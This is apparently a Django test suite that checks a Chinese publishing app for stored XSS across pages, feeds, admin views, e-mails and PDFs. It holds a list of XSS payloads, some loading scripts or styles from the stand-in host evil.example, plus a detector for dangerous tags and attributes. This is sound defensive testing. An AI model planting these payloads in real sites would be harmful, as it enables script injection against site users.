"""Stored XSS: hostile text in every field an editor writes stays text on
every page, feed, e-mail and file that shows it.

Each page is rendered twice, once with ordinary text and once with the
payloads; the hostile constructs a browser would act on (script elements,
event-handler attributes, javascript:/data: URLs, embedded objects, inline
SVG or styles) must be exactly as many in both: the payloads add none.
"""

import re
import xml.etree.ElementTree as ET
from collections import Counter
from html import unescape
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse

from issues import workflow
from issues.models import Issue
from issues.revisions import records
from issues.revisions.models import Revision
from tests.factories import (
    ArticleFactory,
    IssueFactory,
    SeriesFactory,
    SourceFactory,
    UserFactory,
)
from tests.html import flatten, form_data

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">点击</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    "<style>@import 'javascript:alert(1)';</style>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>\u202d正常标题",
    "\ufeff<img src=x onerror=alert(1)>\u200b",
    "{{ request.user }}{% debug %}",
    "${alert(1)}`<img src=x onerror=alert(1)>`",
]
BENIGN = "平常的文字"

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "details",
    "img",
    "body",
}


class Hostile(HTMLParser):
    """Counts what a browser would act on."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = Counter()

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.found[
                f"<{tag}> {dict(attrs).get('src', '')}{dict(attrs).get('href', '')}"
            ] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.found[f"{tag}[{name}]"] += 1
            if name in {"href", "src", "action", "formaction", "data"} and value:
                scheme = value.strip().lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    self.found[f"{tag}[{name}={scheme[:11]}]"] += 1
            if name == "style" and value and ("expression" in value or "url(" in value):
                self.found[f"{tag}[style]"] += 1


def hostile(text: str) -> Counter:
    parser = Hostile()
    parser.feed(text)
    return parser.found


def fill(text_for) -> dict:
    """A world where every editor-written field holds text_for(field)."""
    editor = UserFactory(username="editor", groups=["编辑"], is_staff=True)
    reviewer = UserFactory(username="reviewer", groups=["审核"], is_staff=True)
    publisher = UserFactory(username="publisher", groups=["签发"], is_staff=True)
    series = SeriesFactory(
        name=text_for("series.name")[:50],
        slug="xxck",
        banner=text_for("series.banner")[:100],
        office=text_for("series.office")[:100],
        report_to=text_for("series.report_to"),
    )
    issue = IssueFactory(
        series=series,
        number=None,
        editors_note=text_for("issue.editors_note"),
        report_to=text_for("issue.report_to"),
        copy_to=text_for("issue.copy_to"),
        distribute_to=text_for("issue.distribute_to"),
        print_run=40,
    )
    source = SourceFactory(name=text_for("source.name")[:100])
    articles = []
    for position in (1, 2):
        articles.append(
            ArticleFactory(
                issue=issue,
                position=position,
                title=text_for(f"article{position}.title")[:200],
                subtitle=text_for("article.subtitle")[:200],
                byline=text_for("article.byline")[:200],
                body=text_for("article.body") + "\n\n" + text_for("article.body2"),
                source=source,
                source_page=text_for("article.page")[:30],
                citation_override=text_for("article.citation")[:200]
                if position == 2
                else "",
            )
        )
    for article in articles:
        records.record(article, by=editor)
        article.body += "\n\n" + text_for("article.edit")
        article.save()
        records.record(article, by=editor)
    workflow.submit(issue, by=editor, comment=text_for("comment.submit"))
    workflow.return_to_draft(issue, by=reviewer, comment=text_for("comment.return"))
    workflow.submit(issue, by=editor)
    workflow.approve(issue, by=reviewer, comment=text_for("comment.approve"))
    workflow.publish(issue, by=publisher)
    return {
        "issue": Issue.objects.get(pk=issue.pk),
        "articles": articles,
        "editor": editor,
    }


def pages(world) -> dict[str, tuple[str, bool]]:
    """Name → (URL, needs a staff login)."""
    issue, article = world["issue"], world["articles"][0]
    first, last = Revision.objects.of(article).order_by("created_at")[:2]
    return {
        "home": ("/", False),
        "archive": (issue.series.get_absolute_url(), False),
        "issue": (issue.get_absolute_url(), False),
        "article": (article.get_absolute_url(), False),
        "search": ("/search/?q=alert", False),
        "feed": ("/feed/", False),
        "series feed": (reverse("issues:series-feed", args=[issue.series.slug]), False),
        "sitemap": ("/sitemap.xml", False),
        "preview": (reverse("issues:preview", args=[issue.pk]), True),
        "admin issue": (reverse("admin:issues_issue_change", args=[issue.pk]), True),
        "admin issues": (reverse("admin:issues_issue_changelist"), True),
        "admin article": (
            reverse("admin:articles_article_change", args=[article.pk]),
            True,
        ),
        "admin articles": (reverse("admin:articles_article_changelist"), True),
        "admin series": (
            reverse("admin:issues_series_change", args=[issue.series_id]),
            True,
        ),
        "admin history": (reverse("admin:issues_issue_history", args=[issue.pk]), True),
        "admin article history": (
            reverse("admin:articles_article_history", args=[article.pk]),
            True,
        ),
        "diff": (
            reverse("admin:articles_article_compare", args=[article.pk])
            + f"?old={first.pk}&new={last.pk}",
            True,
        ),
        "changes since submission": (
            reverse("admin:issues_issue_compare", args=[issue.pk])
            + "?old=previous-submission",
            True,
        ),
    }


def render_all(world) -> dict[str, str]:
    staff, public = Client(), Client()
    staff.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    rendered = {}
    for name, (url, needs_staff) in pages(world).items():
        response = (staff if needs_staff else public).get(url)
        assert response.status_code == 200, f"{name}: {response.status_code}"
        rendered[name] = response.content.decode()
    return rendered


@pytest.fixture
def payload_for():
    """Each field gets its own payload, cycling through the corpus."""
    assigned = {}

    def text_for(field):
        if field not in assigned:
            assigned[field] = PAYLOADS[len(assigned) % len(PAYLOADS)]
        return assigned[field]

    return text_for


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("offset", range(0, len(PAYLOADS), 6))
def test_every_field_is_inert_on_every_page(offset, django_capture_on_commit_callbacks):
    """Six rounds, so that every payload reaches every field once or more."""

    def benign(field):
        return BENIGN

    def hostile_text(field, assigned={}):  # noqa: B006 (per-round memo)
        if field not in assigned:
            assigned[field] = PAYLOADS[(offset + len(assigned)) % len(PAYLOADS)]
        return assigned[field]

    baseline = render_all(fill(benign))
    Issue.objects.all().delete()
    from articles.models import Article, Source
    from issues.models import Series

    Article.objects.all().delete()
    Source.objects.all().delete()
    Series.objects.all().delete()
    with django_capture_on_commit_callbacks(execute=True):
        world = fill(hostile_text)
    attacked = render_all(world)
    for name, html in attacked.items():
        assert hostile(html) == hostile(baseline[name]), name
    # The hostile text is shown, as text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in "".join(attacked.values())
    for message in mail.outbox:
        assert message.content_subtype == "plain" and not getattr(
            message, "alternatives", []
        )


def test_feeds_escape_everything(client, payload_for):
    world = fill(payload_for)
    for url in (
        "/feed/",
        reverse("issues:series-feed", args=[world["issue"].series.slug]),
    ):
        xml = client.get(url).content.decode()
        assert not re.search(r"<(script|img|svg|iframe)\b", xml), url


ATOM = "{http://www.w3.org/2005/Atom}"


class Elements(HTMLParser):
    """The elements an HTML reader would build from a text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    handle_startendtag = handle_starttag


def test_feed_summaries_are_text_and_entries_have_an_author(client):
    """A summary is HTML to a feed reader: what it holds must parse to text
    alone. RFC 4287 requires an author for every entry."""
    series = SeriesFactory(name="学习参考", slug="xxck", office="<b>办公室</b>")
    issue = IssueFactory(series=series, published=True)
    for position, title in enumerate(PAYLOADS[:4], start=1):
        ArticleFactory(issue=issue, position=position, title=title)
    for url in ("/feed/", "/xxck/feed/"):
        feed = ET.fromstring(client.get(url).content)
        entries = feed.findall(f"{ATOM}entry")
        assert entries, url
        for element in feed.iter():
            if element.get("type") == "html":
                parser = Elements()
                parser.feed(element.text or "")
                parser.close()
                assert parser.tags == [], (url, element.tag, element.text)
        summary = entries[0].find(f"{ATOM}summary").text
        assert "<script>alert(1)</script>" in unescape(summary)
        feed_author = feed.findtext(f"{ATOM}author/{ATOM}name")
        for entry in entries:
            name = entry.findtext(f"{ATOM}author/{ATOM}name") or feed_author
            assert name == "<b>办公室</b>", url


def test_invisible_controls_are_stripped_on_input(client_as, editor):
    article = ArticleFactory(title="标题")
    client = client_as(editor)
    url = reverse("admin:articles_article_change", args=[article.pk])
    from tests.html import flatten, form_data

    data = flatten(form_data(client.get(url), "article_form"))
    data["title"] = "\u202e反转\u202c的标题\u200b"
    data["body"] = "第一段\u2066。\n\n第二段。"
    assert client.post(url, data).status_code == 302
    article.refresh_from_db()
    assert (article.title, article.body) == ("反转的标题", "第一段。\n\n第二段。")


def import_preview(client, title: str) -> str:
    text = f"{title}\n\n本报讯（记者 祁梦竹）正文第一段。\n\n正文第二段。\n\n选自《北京日报》（2023年7月23日第1版）"
    response = client.post(
        reverse("admin:issues_issue_import"), {"text": text, "recognise": "1"}
    )
    assert response.status_code == 200
    return response.content.decode()


# Bidi embeddings, overrides, isolates and marks, zero-width characters.
FORMAT_CHARACTERS = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


def test_import_preview_shows_no_bidi_or_zero_width_characters(client_as, editor):
    """They are stripped on save; the preview the editor checks before
    saving must show the same text, not one that reads differently."""
    client = client_as(editor)
    url = reverse("admin:issues_issue_import")
    text = (
        "\u202e反转\u202c的标题\u2066\u200f\n\n"
        "本报讯（记者\u202d 祁梦竹）正文\u2068第一段。\u200e\n\n"
        "选自《北京日报》（2023年7月23日第1版）"
    )
    response = client.post(url, {"text": text, "recognise": "1"})
    html = response.content.decode()
    assert "反转的标题" in html and "正文第一段。" in html
    assert not FORMAT_CHARACTERS.search(html)
    # Corrections sent back are shown again, after an error, the same way.
    data = flatten(form_data(response, "import_form"))
    data.update(
        {
            "articles-0-title": "\u202e\u202c",
            "articles-0-byline": "记者\u2067 祁梦竹\u2069",
            "confirm": "1",
        }
    )
    html = client.post(url, data).content.decode()
    assert "请填写文章标题" in html and "记者 祁梦竹" in html
    assert not FORMAT_CHARACTERS.search(html)


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_import_preview_is_inert(client_as, editor, payload):
    client = client_as(editor)
    assert hostile(import_preview(client, payload)) == hostile(
        import_preview(client, BENIGN)
    )


@pytest.mark.slow
def test_pdf_shows_payloads_as_text(payload_for):
    from issues import pdf
    from tests.pdf_text import read_pdf, squeeze

    world = fill(payload_for)
    _sizes, lines = read_pdf(pdf.render_issue_pdf(world["issue"]))
    assert squeeze("<script>alert(1)</script>") in squeeze(
        "".join(line.text for line in lines)
    )
